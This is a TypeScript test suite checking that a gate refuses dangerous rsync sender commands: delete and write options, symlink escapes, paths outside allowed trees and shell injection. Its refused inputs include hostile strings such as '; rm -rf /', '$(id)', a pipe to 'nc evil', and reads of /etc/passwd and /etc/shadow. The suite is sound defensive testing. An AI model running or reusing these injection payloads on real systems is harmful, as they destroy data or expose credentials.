import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PullbackError } from '../../core/errors.js';
import { validateSenderCommand } from '../../core/gate/validate.js';

// A tree the gate allows (ALLOWED), with one symlink leading out of it, and a tree beside it.
const root = mkdtempSync(join(tmpdir(), 'pullback-gate-refusals-'));
const A = join(root, 'allowed');
mkdirSync(join(A, 'docs'), { recursive: true });
writeFileSync(join(A, 'docs', 'notes.txt'), 'notes\n');
mkdirSync(join(root, 'outside'));
writeFileSync(join(root, 'outside', 'secret'), 'secret\n');
mkdirSync(join(root, 'allowedx'));
symlinkSync(join(root, 'outside'), join(A, 'escape'));
after(() => rmSync(root, { recursive: true, force: true }));

const ALLOW = [A];
const SENDER = 'rsync --server --sender -logDtpre.iLsfxCIvu';
/** The one source argument the gate accepts for ALLOW: the whole tree, as `<tree>/`. */
const DOCS = `${A}/`;

function assertRefused(command: string, reason: RegExp, allow: readonly string[] = ALLOW): void {
  assert.throws(
    () => validateSenderCommand(command, allow),
    (err: unknown) => {
      assert.ok(err instanceof PullbackError, `not a PullbackError: ${String(err)}`);
      assert.equal(err.code, 'REFUSED');
      assert.match(err.message, reason);
      return true;
    },
  );
}

test('the gate accepts the plain sender the refusals below are variations of', () => {
  assert.deepEqual(validateSenderCommand(`${SENDER} --numeric-ids . ${DOCS}`, ALLOW), {
    options: ['-logDtpre.iLsfxCIvu', '--numeric-ids'],
    tree: A,
  });
});

// [what is refused, the command, what the reason must say]
const HOSTILE: [string, string, RegExp][] = [
  [
    'receiver mode (a push into the client)',
    `rsync --server -logDtprRe.iLsfxCIvu . ${DOCS}`,
    /receiver mode/,
  ],
  ['--sender before --server', `rsync --sender --server -logDtpr . ${DOCS}`, /--server must come/],
  [
    '--remove-source-files',
    `${SENDER} --remove-source-files . ${DOCS}`,
    /remove-source-files writes or deletes/,
  ],
  [
    '--remove-sent-files',
    `${SENDER} --remove-sent-files . ${DOCS}`,
    /remove-sent-files writes or deletes/,
  ],
  ['--log-file', `${SENDER} --log-file=/tmp/gate.log . ${DOCS}`, /--log-file writes/],
  ['--log-file-format', `${SENDER} --log-file-format=%i . ${DOCS}`, /--log-file-format writes/],
  ['--write-batch', `${SENDER} --write-batch=/tmp/batch . ${DOCS}`, /--write-batch writes/],
  ['--only-write-batch', `${SENDER} --only-write-batch=/tmp/batch . ${DOCS}`, /--only-write-batch/],
  [
    '--read-batch',
    `${SENDER} --read-batch=/tmp/batch . ${DOCS}`,
    /--read-batch makes rsync a receiver/,
  ],
  ['--daemon', `${SENDER} --daemon . ${DOCS}`, /--daemon starts an rsync daemon/],
  ['--config', `${SENDER} --config=/tmp/rsyncd.conf . ${DOCS}`, /--config starts/],
  ['-e with a program', `${SENDER} -e ssh . ${DOCS}`, /-e runs another program/],
  [
    '-e glued to a program name',
    `rsync --server --sender -essh . ${DOCS}`,
    /-e runs another program/,
  ],
  ['--rsh', `${SENDER} --rsh=/bin/sh . ${DOCS}`, /--rsh runs another program/],
  [
    '--rsync-path',
    `${SENDER} --rsync-path=/tmp/evil . ${DOCS}`,
    /--rsync-path runs another program/,
  ],
  [
    '--files-from a client file',
    `${SENDER} --files-from=/etc/passwd . ${DOCS}`,
    /--files-from names files/,
  ],
  [
    '--files-from the protocol',
    `${SENDER} --files-from=- --from0 . ${DOCS}`,
    /--files-from names files/,
  ],
  [
    '--exclude-from',
    `${SENDER} --exclude-from=/etc/shadow . ${DOCS}`,
    /--exclude-from names files/,
  ],
  ['--temp-dir', `${SENDER} --temp-dir=/tmp . ${DOCS}`, /--temp-dir writes/],
  ['--backup-dir', `${SENDER} --backup-dir=/tmp . ${DOCS}`, /--backup-dir writes/],
  ['--partial-dir', `${SENDER} --partial-dir=/tmp . ${DOCS}`, /--partial-dir writes/],
  ['-M (remote option)', `${SENDER} -M--log-file=/tmp/x . ${DOCS}`, /-M passes options/],
  [
    '--remote-option',
    `${SENDER} --remote-option=--log-file=/tmp/x . ${DOCS}`,
    /--remote-option passes/,
  ],
  ['--server given twice', `${SENDER} --server . ${DOCS}`, /--server appears twice/],
  ['--sender given twice', `${SENDER} --sender . ${DOCS}`, /--sender appears twice/],
  [
    '--copy-devices',
    `${SENDER} --copy-devices . ${DOCS}`,
    /--copy-devices reads raw block devices/,
  ],
  ['--write-devices', `${SENDER} --write-devices . ${DOCS}`, /--write-devices writes/],
  [
    '--no-munge-links',
    `${SENDER} --no-munge-links . ${DOCS}`,
    /--no-munge-links is not on the gate's allow-list/,
  ],
  [
    '-L (follows symlinks out of the tree)',
    `rsync --server --sender -LogDtpre.iLsfxCIvu . ${DOCS}`,
    /-L follows symlinks/,
  ],
  [
    '-k (follows directory symlinks)',
    `rsync --server --sender -kogDtpre.iLsfxCIvu . ${DOCS}`,
    /-k follows symlinks/,
  ],
  ['--copy-unsafe-links', `${SENDER} --copy-unsafe-links . ${DOCS}`, /--copy-unsafe-links follows/],
  [
    '-s (secluded args hide the paths)',
    `rsync --server --sender -se.iLsfxCIvu . .`,
    /-s secluded args/,
  ],
  ['--secluded-args', `${SENDER} --secluded-args . ${DOCS}`, /--secluded-args names files/],
  ['--delete', `${SENDER} --delete . ${DOCS}`, /--delete is a delete option/],
  [
    '--delete-missing-args',
    `${SENDER} --delete-missing-args . ${DOCS}`,
    /--delete-missing-args is a delete/,
  ],
  [
    'an option it does not know',
    `${SENDER} --frobnicate . ${DOCS}`,
    /--frobnicate is not on the gate's allow-list/,
  ],
  [
    'an allowed option with a hostile value',
    `${SENDER} --bwlimit=1\\ --log-file=/tmp/x . ${DOCS}`,
    /--bwlimit needs a value/,
  ],
  [
    'an option with a value it must not have',
    `${SENDER} --numeric-ids=1 . ${DOCS}`,
    /takes no value/,
  ],
  [
    'an option smuggled in after the dot',
    `${SENDER} . ${DOCS} --remove-source-files`,
    /more than one source path/,
  ],
  ['a path outside --allow', `${SENDER} . /etc/`, /"\/etc\/" is not one of the allowed trees/],
  [
    'a sibling whose name starts like the allowed tree',
    `${SENDER} . ${A}x/`,
    /is not one of the allowed trees/,
  ],
  // Changed with issue 9: a path below a tree is refused (it was allowed when realpath said it
  // stayed inside); only a whole tree is served, pinned and confined to itself.
  [
    'a directory below the allowed tree',
    `${SENDER} . ${A}/docs/`,
    /only a whole tree is served, never a path below it/,
  ],
  ['a file below the allowed tree', `${SENDER} . ${A}/docs/notes.txt`, /not one of the allowed/],
  [
    'two trees in one sender (each sender is confined to one tree)',
    `${SENDER} . ${A}/ ${A}/`,
    /more than one source path: one sender serves one tree/,
  ],
  [
    'the tree without its trailing slash (rsync would send the directory entry itself)',
    `${SENDER} . ${A}`,
    /must end with "\/"/,
  ],
  ['a path climbing out with ..', `${SENDER} . ${A}/../outside/`, /not one of the allowed trees/],
  ['a "." segment', `${SENDER} . ${A}/./`, /not one of the allowed trees/],
  ['a // in a path', `${SENDER} . ${A}//`, /not one of the allowed trees/],
  [
    'a top-level symlink leading out of the tree',
    `${SENDER} . ${A}/escape/`,
    /not one of the allowed trees/,
  ],
  ['a path through a symlink leading out', `${SENDER} . ${A}/escape/secret`, /not one of the/],
  ['a relative path', `${SENDER} . docs`, /"docs" is not absolute/],
  ['a home-relative path', `${SENDER} . ~/docs`, /is not absolute/],
  [
    '-R (names paths above the tree)',
    `rsync --server --sender -logDtprRe.iLsfxCIvu . ${DOCS}`,
    /-R names paths above the tree/,
  ],
  [
    'a peer-chosen --confine-root',
    `${SENDER} --confine-root=/ . ${DOCS}`,
    /--confine-root is set by the gate itself/,
  ],
  ['--insecure-links', `${SENDER} --insecure-links . ${DOCS}`, /--insecure-links follows/],
  ['no paths at all', `${SENDER} .`, /no source paths/],
  ['a command without the "." argument', `${SENDER} ${DOCS}`, /no "\." argument/],
  ['; (a second command)', `${SENDER} . ${DOCS}; rm -rf /`, /unescaped shell character ";"/],
  ['$() (command substitution)', `${SENDER} . ${A}/$(id)`, /unescaped shell character "\$"/],
  ['backticks', `${SENDER} . ${A}/\`id\``, /unescaped shell character "`"/],
  ['| (a pipe)', `${SENDER} . ${DOCS} | nc evil 1`, /unescaped shell character "\|"/],
  ['&& (a chained command)', `${SENDER} . ${DOCS} && id`, /unescaped shell character "&"/],
  ['> (a redirection)', `${SENDER} . ${DOCS} > /etc/passwd`, /unescaped shell character ">"/],
  ['< (a redirection)', `${SENDER} . ${DOCS} < /etc/passwd`, /unescaped shell character "<"/],
  ['an unescaped quote', `${SENDER} . '${DOCS}'`, /unescaped shell character "'"/],
  ['a newline', `${SENDER} . ${DOCS}\nid`, /contains a newline/],
  ['a backslash-escaped newline', `${SENDER} . ${DOCS}\\\nid`, /contains a newline/],
  ['a NUL byte', `${SENDER} . ${DOCS}\0/etc`, /contains a NUL byte/],
  ['a tab', `${SENDER} .\t${DOCS}`, /control character U\+0009/],
  ['a C1 control character', `${SENDER} . ${DOCS}\u0085`, /control character U\+0085/],
  ['a lone trailing backslash', `${SENDER} . ${DOCS}\\`, /lone backslash/],
  [
    'a missing --server',
    `rsync --sender -logDtpr . ${DOCS}`,
    /--server must come right after rsync/,
  ],
  ['a command that is not rsync (sh -c)', `sh -c id`, /only rsync may run, not "sh"/],
  [
    'rsync under another path',
    `/bin/rsync --server --sender -logDtpr . ${DOCS}`,
    /only rsync may run, not "\/bin\/rsync"/,
  ],
  [
    'rsync behind an environment assignment',
    `RSYNC_RSH=x rsync --server --sender . ${DOCS}`,
    /only rsync may run/,
  ],
  ['an empty command', '', /the command is empty/],
  ['a command of spaces', '   ', /the command is empty/],
  ['an absurdly long command', `${SENDER} . ${DOCS}${'a'.repeat(70000)}`, /longer than/],
];

for (const [what, command, reason] of HOSTILE) {
  test(`S3: the gate refuses ${what}`, () => assertRefused(command, reason));
}

test('S3: the gate refuses to run without an allowed tree', () => {
  assertRefused(`${SENDER} . ${DOCS}`, /no allowed trees/, []);
});

test('S3: the gate refuses a relative allowed tree', () => {
  assertRefused(`${SENDER} . ${DOCS}`, /is not an absolute, normalised path/, ['allowed']);
});
